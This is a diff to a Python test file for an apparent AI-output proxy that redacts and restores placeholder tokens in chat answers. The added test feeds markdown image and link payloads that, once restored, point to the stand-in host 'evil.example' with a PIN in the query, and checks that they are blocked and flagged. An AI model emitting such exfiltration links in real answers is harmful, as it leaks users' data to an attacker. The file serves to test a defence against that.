@@ -5,13 +5,16 @@ and in arguments of tools, after all checks. BARTIZAN_STREAM_CASES sets the numb
 from __future__ import annotations
 
 import json
+from dataclasses import replace
 from typing import Any
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from bartizan.policy.checks import Exfiltration, Markup
 from sidecar.checks.base import CheckSet
+from sidecar.checks.catalog import build_checks
 from sidecar.checks.content import inspect_document
 from sidecar.checks.scope import Scope
 from sidecar.checks.stream import StreamInspector
@@ -37,6 +40,7 @@ SAID = {
     "<COORDINATES_1>": "52°31'12\"N 13°24'18\"E",
     "<NATIONAL_ID_1>": "back\\slash and\nline \u732b",
     "<EMAIL_12>": "<EMAIL_1>",
+    "<EMAIL_13>": "joe@evil.example",
 }
 CHANGED = ("<EMAIL_2>", "<email_1>", "<EMAIL_1", "EMAIL_1>", "<EMAIL_ 1>", "<EMAIL_01>", "<", "<E", "<EMAIL_")
 TEXTS = st.lists(
@@ -60,7 +64,7 @@ def restored(text: str) -> str:
 
 
 def of(checks: CheckSet) -> CheckSet:
-    return CheckSet(texts=checks.texts, restores=True).bound(scope())
+    return replace(checks, restores=True).bound(scope())
 
 
 @settings(max_examples=CASES, deadline=None, suppress_health_check=list(HealthCheck))
@@ -69,7 +73,7 @@ def test_a_stream_is_restored_as_the_whole_answer_is(case: Case, checked: bool) 
     checks = of(ALL["redact"] if checked else CheckSet())
 
     def wanted(text: str) -> str:
-        return restored(_redacted(text, checks.texts))
+        return _redacted(restored(_redacted(text, checks.texts)), checks.rendered)
 
     expected: dict[str, Any] = {
         name: _in_strings(text, wanted) if name.startswith(ARGUMENTS) else wanted(text)
@@ -101,3 +105,37 @@ def test_only_what_may_become_a_token_is_held_back(name: str) -> None:
     for said, flows in (("a < b", "a < b"), (" <EMA", " "), ("IL_1", ""), (">!", "jane@example.org!")):
         out = inspector.feed(wire.event(wire.piece(kind, said), json.dumps), end=False)
         assert wire.client(out.data).get(kind, "") == flows
+
+
+HOSTS = (
+    "![a](//<EMAIL_13>/p?pin=1234)",
+    "![a](https://docs.example<EMAIL_13>/p?pin=1234)",
+    "see https://docs.example<EMAIL_13>/p?pin=1234 ok",
+    "[x]: //<EMAIL_13>/?pin=1234\n![x]",
+)
+
+
+@pytest.mark.parametrize("said", HOSTS)
+@pytest.mark.parametrize("kind", ["content:0", "arguments:0"])
+@pytest.mark.parametrize("streamed", [False, True])
+def test_what_is_put_back_chooses_no_host_of_a_link(said: str, kind: str, streamed: bool) -> None:
+    checks = of(build_checks((Exfiltration(links=("docs.example",)), Markup())))
+    wire = next(wire for wire in WIRES if wire.name == "chat")
+    text = json.dumps({"a": said}) if kind.startswith(ARGUMENTS) else said
+    if streamed:
+        stream = FORMATS["chat"].answer_stream(wire.path, wire.kind)
+        assert stream is not None
+        inspector = StreamInspector(stream, checks, shadow=False)
+        split = text.index("AIL_")
+        events = [*wire.begin(), *(wire.piece(kind, half) for half in (text[:split], text[split:]))]
+        out = b"".join(inspector.feed(wire.event(event, json.dumps), end=False).data for event in events)
+        out += inspector.feed(b"", end=True).data
+        findings = inspector.findings
+    else:
+        body = json.dumps(wire.whole({kind: text})).encode()
+        document = FORMATS["chat"].decode_answer(wire.path, "application/json", body)
+        findings = inspect_document(document, checks, shadow=False).findings
+        out = document.encode()
+    assert b"[LINK]" in out
+    assert b"evil.example" not in out
+    assert {finding.check for finding in findings} == {"restore", "exfiltration"}
